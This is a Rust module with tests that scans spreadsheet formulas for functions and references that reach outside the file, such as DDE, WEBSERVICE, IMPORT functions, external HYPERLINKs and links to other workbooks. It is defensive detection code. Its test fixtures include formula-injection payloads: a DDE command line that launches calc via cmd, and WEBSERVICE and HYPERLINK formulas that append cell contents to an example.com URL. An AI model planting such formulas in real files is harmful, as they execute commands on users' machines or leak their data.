//! Formulas of spreadsheets, as far as they reach beyond the file they are in.
//!
//! They are not parsed: a formula is read once, from left to right, for what can reach outside.

use std::iter::Peekable;
use std::str::Chars;

/// Functions that fetch from, send to or run something outside, in Excel, WPS and the tables of
/// browsers. `HYPERLINK` is looked at closer, because it may also lead to another sheet.
const REACHING: [&str; 20] = [
    "CALL",
    "COPILOT",
    "DDE",
    "DETECTLANGUAGE",
    "EVALUATE",
    "EXEC",
    "FILTERXML",
    "IMAGE",
    "IMPORTDATA",
    "IMPORTFEED",
    "IMPORTHTML",
    "IMPORTRANGE",
    "IMPORTXML",
    "REGISTER",
    "REGISTER.ID",
    "RTD",
    "SQL.REQUEST",
    "STOCKHISTORY",
    "TRANSLATE",
    "WEBSERVICE",
];
/// What Excel writes before the names of functions that are newer than the format.
const PREFIXES: [&str; 3] = ["_XLFN.", "_XLWS.", "_XLUDF."];

/// What a formula does.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Reach {
    /// It takes data from outside its file, sends data there, or starts something.
    pub(super) outside: bool,
    /// It calls a function.
    pub(super) calls: bool,
}

/// What `formula`, written without the sign before it, does.
pub(super) fn reach(formula: &str) -> Reach {
    let mut reach = Reach::default();
    let mut rest = formula.chars().peekable();
    let mut word = String::new();
    let mut is_apart = false;
    while let Some(character) = rest.next() {
        match character {
            '"' => {
                quoted('"', &mut rest);
            }
            // The name of a sheet: with brackets, of another file.
            '\'' => reach.outside |= names_another_file(&quoted('\'', &mut rest)),
            // Dynamic data exchange: program|topic!item.
            '|' => reach.outside = true,
            '[' => {
                let within = bracketed(&mut rest);
                // After a name they select columns of a table.
                reach.outside |= word.is_empty() && names_another_file(&format!("[{within}]"));
            }
            '(' if is_function(&word) => {
                reach.calls = true;
                reach.outside |= calls_outside(&word, &rest);
            }
            _ => {}
        }
        if character.is_whitespace() {
            is_apart = true;
            continue;
        }
        let is_of_word = character.is_alphanumeric() || matches!(character, '_' | '.');
        if is_apart || !is_of_word {
            word.clear();
        }
        if is_of_word {
            word.extend(character.to_uppercase());
        }
        is_apart = false;
    }
    reach
}

/// Whether `word` can be the name of a function: in formulas these are in Latin letters everywhere.
fn is_function(word: &str) -> bool {
    word.is_ascii() && word.starts_with(|first: char| first.is_ascii_alphabetic() || first == '_')
}

/// Whether calling `function` with the arguments that begin `rest` reaches outside.
fn calls_outside(function: &str, rest: &Peekable<Chars<'_>>) -> bool {
    let mut name = function;
    while let Some(bare) = PREFIXES.iter().find_map(|prefix| name.strip_prefix(prefix)) {
        name = bare;
    }
    if name == "HYPERLINK" {
        let target: String = rest
            .clone()
            .filter(|c| !c.is_whitespace())
            .take(2)
            .collect();
        return target != "\"#";
    }
    REACHING.contains(&name)
}

/// Whether a reference names a file, as `[1]Sheet` and `[book.xlsx]Sheet` do; `[0]` is the file itself.
fn names_another_file(reference: &str) -> bool {
    let named = reference.split_once('[').map(|(_, named)| named);
    named.is_some_and(|named| !named.starts_with("0]"))
}

/// What stands between quotation marks, of which the first is read. Doubled ones stand for themselves.
fn quoted(mark: char, rest: &mut Peekable<Chars<'_>>) -> String {
    let mut within = String::new();
    while let Some(character) = rest.next() {
        if character == mark && rest.next_if_eq(&mark).is_none() {
            break;
        }
        within.push(character);
    }
    within
}

/// What stands between brackets, of which the first is read.
fn bracketed(rest: &mut Peekable<Chars<'_>>) -> String {
    let mut within = String::new();
    let mut depth = 1_u32;
    for character in rest.by_ref() {
        match character {
            '[' => depth += 1,
            ']' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            break;
        }
        within.push(character);
    }
    within
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_stays_in_the_file_reaches_nowhere() {
        for formula in [
            "SUM(A1:A10)",
            "IF(C4=\"WEBSERVICE(1)\",\"a|b [1]x\",'员工 名单'!B2)",
            "Staff[[#This Row],[Age]]*2",
            "SUM(Staff[Age])",
            "_xlfn.XLOOKUP(A1,B:B,C:C)",
            "[0]!Region",
            "HYPERLINK(\"#Sheet2!A1\",\"see\")",
            "IMAGES(1)+RTDX(2)",
            "",
        ] {
            assert!(!reach(formula).outside, "{formula}");
        }
    }

    #[test]
    fn what_leaves_the_file_is_found_however_it_is_written() {
        for formula in [
            "WEBSERVICE(\"https://example.com/?\"&A1)",
            "1+_xlfn.WEBSERVICE(A1)",
            "_xlfn._xlws.filterxml (A1,\"//a\")",
            "cmd|'/c calc'!A0",
            "SUM(1)*cmd|' /C calc'!A0",
            "[1]Sheet1!A1",
            "SUM([2]Sheet1!$A$1:$A$9)",
            "'[staff.xlsx]员工'!A1",
            "'\\\\server\\share\\[staff.xlsx]员工'!A1",
            "HYPERLINK(\"https://example.com/?\"&A1,\"see\")",
            "HYPERLINK(A1)",
            "_xlfn.IMAGE(\"https://example.com/a.png\")",
            "RTD(\"a.b\",,\"c\")",
            "\"\"\"\"&DDE(\"soffice\",\"a\",\"b\")",
        ] {
            assert!(reach(formula).outside, "{formula}");
        }
    }

    #[test]
    fn a_bracket_is_no_call() {
        assert!(reach("2+SUM(A1)").calls);
        assert!(!reach("86 (351) 1234567").calls);
        assert!(!reach(" 备注(见附件)").calls);
        assert!(!reach("-(3.5)").calls);
    }
}
